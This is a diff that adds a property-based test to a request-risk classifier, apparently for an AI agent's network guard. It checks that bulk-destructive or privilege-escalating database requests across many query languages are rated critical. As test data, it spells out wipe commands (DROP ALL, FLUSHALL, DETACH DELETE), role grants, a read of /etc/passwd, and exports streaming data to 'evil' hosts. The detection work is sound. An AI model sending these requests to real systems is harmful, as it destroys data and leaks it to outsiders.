@@ -3485,3 +3485,143 @@ t.test('twenty-fifth pass: a function named for running SQL is judged by the sta
     t.equal(decision.approval?.risk, risk, sql);
   }
 });
+
+t.test('twenty-sixth pass: query languages other than SQL are read in their own grammar and judged as their SQL twin', async (t) => {
+  // On an allowed host no module owns: Elasticsearch's `_delete_by_query {query: {match_all: {}}}`,
+  // Neo4j's `MATCH (n) DETACH DELETE n`, SPARQL's `DELETE WHERE {?s ?p ?o}` / `DROP ALL`, InfluxQL's
+  // `DROP MEASUREMENT`, InfluxDB's `/api/v2/delete` of every point, Prometheus's `delete_series` of
+  // `{__name__=~".+"}`, Firestore's `bulkDeleteDocuments {}`, DynamoDB's `DeleteTable`, Webdis's
+  // `GET /FLUSHALL` and a Data API `deleteMany` without its filter were medium writes (the GETs
+  // allowed reads), a grant for a narrow one of each covering them.
+  const host = `https://${SQL_HOST}`;
+  const jsonBody = (o: unknown): { headers: Array<[string, string]>; body: string } => ({ headers: [['Content-Type', 'application/json']], body: JSON.stringify(o) });
+  const form = (o: Record<string, string>): { headers: Array<[string, string]>; body: string } => ({ headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: new URLSearchParams(o).toString() });
+  const index = fc.stringMatching(/^[a-z][a-z0-9_-]{0,8}$/);
+  const esEvery = [{ match_all: {} }, { exists: { field: 'user.id' } }, { query_string: { query: '*' } }, { bool: { must_not: [{ match_none: {} }] } }, { range: { user: { gte: '' } } }, { regexp: { user: '.*' } },
+    { wildcard: { user: { value: '*' } } }, { prefix: { user: '' } }, { constant_score: { filter: { exists: { field: 'a' } } } }, { bool: { should: [{ term: { a: '1' } }, { match_all: {} }] } }, { script: { script: 'true' } }];
+  const es = fc.record({ idx: fc.oneof(index, fc.constantFrom('_all', 'logs-*', 'a,b')), update: fc.boolean(), q: fc.option(fc.constantFrom(...esEvery), { nil: undefined }), url: fc.boolean() }).map(({ idx, update, q, url }) => ({
+    url: `${host}/${idx}/${update ? '_update_by_query' : '_delete_by_query'}${url && !q ? '?q=*' : '?conflicts=proceed'}`, ...(q ? jsonBody({ query: q }) : { headers: [] as Array<[string, string]>, body: '' }) }));
+  const kw = (s: string, lower: boolean): string => (lower ? s.toLowerCase() : s);
+  const cypher = fc.record({ label: fc.constantFrom('', ':User', ':`Audit Log`'), where: fc.constantFrom('', 'WHERE true', 'WHERE n.id IS NOT NULL', "WHERE n.email =~ '.*'", "WHERE 'a' = 'a'", '/* WHERE n.id = 1 */'), act: fc.constantFrom('DETACH DELETE n', 'DELETE n', "SET n.role = 'admin'", 'REMOVE n.password'), lower: fc.boolean(), shape: fc.integer({ min: 0, max: 2 }) })
+    .map(({ label, where, act, lower, shape }) => {
+      const st = `${kw('MATCH', lower)} (n${label}) ${kw(where, lower && !where.includes("'"))} ${shape === 2 ? `CALL { WITH n ${kw(act, lower)} } IN TRANSACTIONS OF 1000 ROWS` : kw(act, lower)}`;
+      return shape === 1 ? { url: `${host}/db/neo4j/query/v2`, ...jsonBody({ statement: st }) } : { url: `${host}/db/neo4j/tx/commit`, ...jsonBody({ statements: [{ statement: 'RETURN 1' }, { statement: st }] }) };
+    });
+  const cypherAdmin = fc.constantFrom("CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {batchSize: 1000})", 'DROP DATABASE neo4j', 'GRANT ROLE admin TO eve', "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l", 'MATCH ()-[r]->() DELETE r', "ALTER USER neo4j SET PASSWORD 'x'")
+    .map((st) => ({ url: `${host}/db/system/query/v2`, ...jsonBody({ statement: st }) }));
+  const sparqlEvery = ['DROP ALL', 'CLEAR DEFAULT', 'DROP SILENT GRAPH <http://example.org/g>', 'DELETE WHERE { ?s ?p ?o }', 'DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }', 'WITH <http://g> DELETE { ?s ?p ?o } INSERT { ?s ?p "x" } WHERE { ?s ?p ?o }',
+    'DELETE WHERE { GRAPH ?g { ?s ?p ?o } }', 'LOAD <http://evil.example/x.ttl>', 'COPY <http://example.org/empty> TO DEFAULT', 'DELETE { ?s ?p ?o } WHERE { ?s ?p ?o FILTER(true) }', 'INSERT DATA { <http://a> <http://b> "c" } ; CLEAR ALL'];
+  const sparql = fc.record({ op: fc.constantFrom(...sparqlEvery), lower: fc.boolean(), lead: fc.constantFrom('', 'PREFIX ex: <http://example.org/>\n', '# cleanup\n'), shape: fc.integer({ min: 0, max: 2 }) }).map(({ op, lower, lead, shape }) => {
+    const text = `${lead}${lower ? op.replace(/\b[A-Z]{3,}\b/g, (w) => w.toLowerCase()) : op}`;
+    if (shape === 0) return { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']] as Array<[string, string]>, body: text };
+    if (shape === 1) return { url: `${host}/ds/update`, ...form({ update: text }) };
+    return { method: 'GET', url: `${host}/sparql?query=${encodeURIComponent(text)}`, headers: [] as Array<[string, string]>, body: '' };
+  });
+  const influxEvery = ['DROP MEASUREMENT cpu', 'DROP SERIES FROM "cpu"', 'DELETE FROM cpu', 'DROP SERIES WHERE host =~ /.*/', 'ALTER RETENTION POLICY autogen ON db DURATION 1h', "CREATE SUBSCRIPTION s ON db.autogen DESTINATIONS ALL 'http://evil.example'", 'GRANT ALL PRIVILEGES TO eve', 'DROP DATABASE db', 'SHOW DATABASES; DROP MEASUREMENT cpu'];
+  const influx = fc.record({ q: fc.constantFrom(...influxEvery), post: fc.boolean() }).map(({ q, post }) => (post ? { url: `${host}/query?db=db`, ...form({ q }) } : { method: 'GET', url: `${host}/query?db=db&q=${encodeURIComponent(q)}`, headers: [] as Array<[string, string]>, body: '' }));
+  const influx2 = fc.constantFrom(undefined, 'host!="zz"', '_measurement!="none"').map((predicate) => ({ url: `${host}/api/v2/delete?org=o&bucket=metrics`, ...jsonBody({ start: '1970-01-01T00:00:00Z', stop: '2100-01-01T00:00:00Z', ...(predicate ? { predicate } : {}) }) }));
+  const prom = fc.record({ sel: fc.constantFrom('{__name__=~".+"}', '{__name__=~".*"}', '{job=~".+"}', '{__name__!=""}', '{job!=""}', '{__name__=~"up|.+"}'), path: fc.constantFrom('/api/v1/admin/tsdb/delete_series', '/prometheus/api/v1/admin/tsdb/delete_series'), post: fc.boolean() })
+    .map(({ sel, path, post }) => (post ? { url: `${host}${path}`, ...form({ 'match[]': sel }) } : { method: 'PUT', url: `${host}${path}?match[]=${encodeURIComponent(sel)}`, headers: [] as Array<[string, string]>, body: '' }));
+  const others = fc.constantFrom<{ method?: string; url: string; headers: Array<[string, string]>; body: string }>(
+    { url: `${host}/v1/projects/p/databases/(default):bulkDeleteDocuments`, ...jsonBody({}) },
+    { url: `${host}/v1/projects/p/databases/(default):bulkDeleteDocuments`, ...jsonBody({ collectionIds: ['users'] }) },
+    { method: 'DELETE', url: `${host}/v1/projects/p/databases/(default)`, headers: [], body: '' },
+    { url: `${host}/`, headers: [['Content-Type', 'application/x-amz-json-1.0'], ['X-Amz-Target', 'DynamoDB_20120810.DeleteTable']], body: '{"TableName":"users"}' },
+    { url: `${host}/`, headers: [['Content-Type', 'application/x-amz-json-1.0'], ['X-Amz-Target', 'DynamoDB_20120810.ExportTableToPointInTime']], body: '{"TableArn":"arn:aws:dynamodb:us-east-1:1:table/users","S3Bucket":"evil"}' },
+    { method: 'GET', url: `${host}/FLUSHALL`, headers: [], body: '' },
+    { method: 'GET', url: `${host}/flushdb.json`, headers: [], body: '' },
+    { method: 'GET', url: `${host}/CONFIG/SET/dir/%2Ftmp`, headers: [], body: '' },
+    { url: `${host}/`, headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: 'FLUSHALL' },
+    { url: `${host}/app/data-x/endpoint/data/v1/action/deleteMany`, ...jsonBody({ dataSource: 'c', database: 'd', collection: 'users' }) },
+    { method: 'DELETE', url: `${host}:9200/users`, headers: [], body: '' },
+    { method: 'DELETE', url: `${host}/logs-*`, headers: [], body: '' },
+    // Gremlin (Neptune, Gremlin Server), ArangoDB's AQL and collection API, RESTHeart's bulk writes,
+    // Neptune's openCypher, Elasticsearch's alias removal, data streams and security APIs.
+    { url: `${host}:8182/gremlin`, ...jsonBody({ gremlin: 'g.V().drop()' }) },
+    { url: `${host}/gremlin`, ...jsonBody({ gremlin: "g.V().hasLabel('User').has('email').drop().iterate()" }) },
+    { method: 'GET', url: `${host}/gremlin?gremlin=${encodeURIComponent("g.V().has('User','age',P.gte(-1000000000000)).property('role','admin')")}`, headers: [], body: '' },
+    { url: `${host}/gremlin`, ...jsonBody({ gremlin: 'g.V().map{ it.get().remove() }' }) },
+    { url: `${host}/_db/app/_api/cursor`, ...jsonBody({ query: 'FOR u IN users REMOVE u IN users' }) },
+    { url: `${host}/_api/cursor`, ...jsonBody({ query: "FOR u IN users FILTER u._key != null UPDATE u WITH {role: 'admin'} IN users" }) },
+    { method: 'PUT', url: `${host}/_db/app/_api/collection/users/truncate`, headers: [], body: '' },
+    { method: 'DELETE', url: `${host}/db/users/*?filter=${encodeURIComponent('{"_id": {"$exists": true}}')}`, headers: [], body: '' },
+    { method: 'PATCH', url: `${host}/db/users/*?filter={}`, ...jsonBody({ $set: { role: 'admin' } }) },
+    { url: `${host}:8182/openCypher`, ...form({ query: 'MATCH (n) DETACH DELETE n' }) },
+    { url: `${host}/_aliases`, ...jsonBody({ actions: [{ add: { index: 'new', alias: 'a' } }, { remove_index: { index: 'users' } }] }) },
+    { method: 'DELETE', url: `${host}/_data_stream/logs-app`, headers: [], body: '' },
+    { method: 'PUT', url: `${host}/_security/role/r`, ...jsonBody({ cluster: ['all'], indices: [{ names: ['*'], privileges: ['all'] }] }) },
+    { method: 'PUT', url: `${host}/_plugins/_security/api/internalusers/eve`, ...jsonBody({ password: 'x', backend_roles: ['admin'] }) },
+    // The query DSL's own ways to every document, SPARQL patterns narrowed only by a property's existence.
+    { url: `${host}/logs/_delete_by_query`, ...jsonBody({ query: { bool: { should: [{ term: { a: '1' } }], minimum_should_match: 0 } } }) },
+    { url: `${host}/logs/_delete_by_query`, ...jsonBody({ query: { match: { user: { query: 'the', analyzer: 'stop', zero_terms_query: 'all' } } } }) },
+    { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']], body: 'DELETE { ?s ?p ?o } WHERE { ?s ?p ?o . ?s a ?t }' },
+    { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']], body: 'PREFIX ex: <http://ex.org/> DELETE { ?s ?p ?o } WHERE { ?s ex:name ?n ; ?p ?o }' },
+    { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']], body: 'DELETE WHERE { GRAPH <http://g> { ?s ?p ?o } }' },
+    // Webdis's lowercase path shapes; stores dropped or emptied by REST.
+    { method: 'GET', url: `${host}/config/set/dir/tmp`, headers: [], body: '' },
+    { method: 'GET', url: `${host}/eval/${encodeURIComponent("return redis.call('flushall')")}/0`, headers: [], body: '' },
+    { method: 'DELETE', url: `${host}/bigquery/v2/projects/p/datasets/ds?deleteContents=true`, headers: [], body: '' },
+    { method: 'DELETE', url: `${host}:6333/collections/docs`, headers: [], body: '' },
+    { url: `${host}/vectors/delete`, ...jsonBody({ deleteAll: true, namespace: 'prod' }) },
+    { url: `${host}/collections/docs/points/delete`, ...jsonBody({ filter: { must: [] } }) },
+    { method: 'DELETE', url: `${host}/indexes/movies/documents`, headers: [], body: '' },
+    { url: `${host}/1/indexes/products/clear`, ...jsonBody({}) },
+    { method: 'DELETE', url: `${host}/api/v3/configure/database?db=metrics`, headers: [], body: '' },
+    { method: 'DELETE', url: `${host}/api/v2/buckets/0123456789abcdef`, headers: [], body: '' },
+  );
+  await fc.assert(
+    fc.asyncProperty(fc.oneof(es, cypher, cypherAdmin, sparql, influx, influx2, prom, others), async (r) => {
+      const { decision } = await decide({ method: 'method' in r && r.method ? r.method : 'POST', url: r.url, headers: r.headers, body: r.body });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${r.url} ${r.body}: ${decision.action} ${decision.approval?.risk ?? ''} ${decision.rule ?? ''}`);
+    }),
+    { numRuns: Math.min(runs, 60), ...seed },
+  );
+  // Controls: narrow writes of each language stay medium, reads stay allowed.
+  const controls: Array<[string | undefined, { method?: string; url: string; headers: Array<[string, string]>; body: string }]> = [
+    ['medium', { url: `${host}/logs/_delete_by_query`, ...jsonBody({ query: { term: { 'user.id': 'kimchy' } } }) }],
+    ['medium', { url: `${host}/logs/_delete_by_query`, ...jsonBody({ query: { range: { '@timestamp': { lt: 'now-30d/d' } } } }) }],
+    ['medium', { url: `${host}/logs/_delete_by_query`, ...jsonBody({ query: { bool: { filter: [{ ids: { values: ['1', '2'] } }] } } }) }],
+    ['medium', { url: `${host}/logs/_delete_by_query?q=user:kimchy`, headers: [], body: '' }],
+    ['medium', { url: `${host}/logs/_search`, ...jsonBody({ query: { match_all: {} } }) }],
+    ['medium', { method: 'DELETE', url: `${host}/items`, headers: [], body: '' }],
+    ['medium', { url: `${host}/db/neo4j/tx/commit`, ...jsonBody({ statements: [{ statement: 'MATCH (n:User {id: $id}) DETACH DELETE n', parameters: { id: 5 } }] }) }],
+    ['medium', { url: `${host}/db/neo4j/query/v2`, ...jsonBody({ statement: "MATCH (n:User) WHERE n.email STARTS WITH 'test-' DETACH DELETE n" }) }],
+    ['medium', { url: `${host}/db/neo4j/query/v2`, ...jsonBody({ statement: "MERGE (u:User {id: 1}) ON CREATE SET u.name = 'a'" }) }],
+    ['medium', { url: `${host}/db/neo4j/query/v2`, ...jsonBody({ statement: 'MATCH (n:User) RETURN n.name LIMIT 5' }) }],
+    ['medium', { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']], body: 'PREFIX ex: <http://ex.org/> DELETE DATA { ex:a ex:b ex:c }' }],
+    ['medium', { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']], body: 'DELETE WHERE { <http://ex.org/a> ?p ?o }' }],
+    ['medium', { url: `${host}/ds/update`, ...form({ update: 'INSERT DATA { <http://a> <http://b> "c" }' }) }],
+    [undefined, { method: 'GET', url: `${host}/sparql?query=${encodeURIComponent('SELECT * WHERE { ?s ?p ?o } LIMIT 10')}`, headers: [], body: '' }],
+    ['medium', { url: `${host}/query?db=db`, ...form({ q: "DELETE FROM cpu WHERE host = 'a'" }) }],
+    [undefined, { method: 'GET', url: `${host}/query?db=db&q=${encodeURIComponent('SELECT * FROM cpu LIMIT 10')}`, headers: [], body: '' }],
+    [undefined, { method: 'GET', url: `${host}/query?q=SHOW%20DATABASES`, headers: [], body: '' }],
+    ['medium', { url: `${host}/api/v2/delete?org=o&bucket=b`, ...jsonBody({ start: '2024-01-01T00:00:00Z', stop: '2024-01-02T00:00:00Z' }) }],
+    ['medium', { url: `${host}/api/v2/delete?org=o&bucket=b`, ...jsonBody({ start: '1970-01-01T00:00:00Z', stop: '2100-01-01T00:00:00Z', predicate: '_measurement="cpu" AND host="a"' }) }],
+    ['medium', { url: `${host}/api/v1/admin/tsdb/delete_series?match[]=${encodeURIComponent('up{instance="a:9100"}')}`, headers: [], body: '' }],
+    ['medium', { url: `${host}/v1/projects/p/databases/(default)/documents:commit`, ...jsonBody({ writes: [{ delete: 'projects/p/databases/(default)/documents/users/a' }] }) }],
+    ['medium', { url: `${host}/app/data-x/endpoint/data/v1/action/deleteOne`, ...jsonBody({ collection: 'users', filter: { _id: 1 } }) }],
+    [undefined, { method: 'GET', url: `${host}/GET/hello`, headers: [], body: '' }],
+    [undefined, { method: 'GET', url: `${host}/debug/pprof/`, headers: [], body: '' }],
+    [undefined, { method: 'GET', url: `${host}/config`, headers: [], body: '' }],
+    ['medium', { url: `${host}/gremlin`, ...jsonBody({ gremlin: "g.V().has('User','email','a@b.example').drop()" }) }],
+    ['medium', { url: `${host}/gremlin`, ...jsonBody({ gremlin: "g.V().hasLabel('User').limit(5).valueMap()" }) }],
+    ['medium', { url: `${host}/_api/cursor`, ...jsonBody({ query: 'FOR u IN users FILTER u.email == @e REMOVE u IN users', bindVars: { e: 'a@b.example' } }) }],
+    ['medium', { method: 'DELETE', url: `${host}/db/users/*?filter=${encodeURIComponent('{"status": "tmp"}')}`, headers: [], body: '' }],
+    ['medium', { url: `${host}:8182/openCypher`, ...form({ query: 'MATCH (n {id: $id}) DETACH DELETE n', parameters: '{"id": 5}' }) }],
+    ['medium', { url: `${host}/_aliases`, ...jsonBody({ actions: [{ add: { index: 'new', alias: 'a' } }] }) }],
+    [undefined, { method: 'GET', url: `${host}/_security/_authenticate`, headers: [], body: '' }],
+    ['medium', { url: `${host}/logs/_delete_by_query`, ...jsonBody({ query: { bool: { filter: [{ term: { a: '1' } }], should: [{ match_all: {} }] } } }) }],
+    ['medium', { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']], body: 'PREFIX ex: <http://ex.org/> DELETE { ?s ?p ?o } WHERE { ?s ex:status "tmp" ; ?p ?o }' }],
+    ['medium', { url: `${host}/ds/update`, headers: [['Content-Type', 'application/sparql-update']], body: 'DELETE { ?s ?p ?o } WHERE { VALUES ?s { <http://a> } ?s ?p ?o }' }],
+    [undefined, { method: 'GET', url: `${host}/config/app`, headers: [], body: '' }],
+    [undefined, { method: 'GET', url: `${host}/eval/results`, headers: [], body: '' }],
+    ['medium', { url: `${host}/vectors/delete`, ...jsonBody({ ids: ['a'], namespace: 'prod' }) }],
+    ['medium', { url: `${host}/collections/docs/points/delete`, ...jsonBody({ filter: { must: [{ key: 'city', match: { value: 'London' } }] } }) }],
+    ['medium', { method: 'DELETE', url: `${host}/indexes/movies/documents/25684`, headers: [], body: '' }],
+    ['medium', { method: 'DELETE', url: `${host}/api/items/5`, headers: [], body: '' }],
+  ];
+  for (const [risk, r] of controls) {
+    const { decision } = await decide({ method: r.method ?? 'POST', url: r.url, headers: r.headers, body: r.body });
+    t.equal(decision.approval?.risk, risk, `${r.method ?? 'POST'} ${r.url} ${r.body}`);
+  }
+});
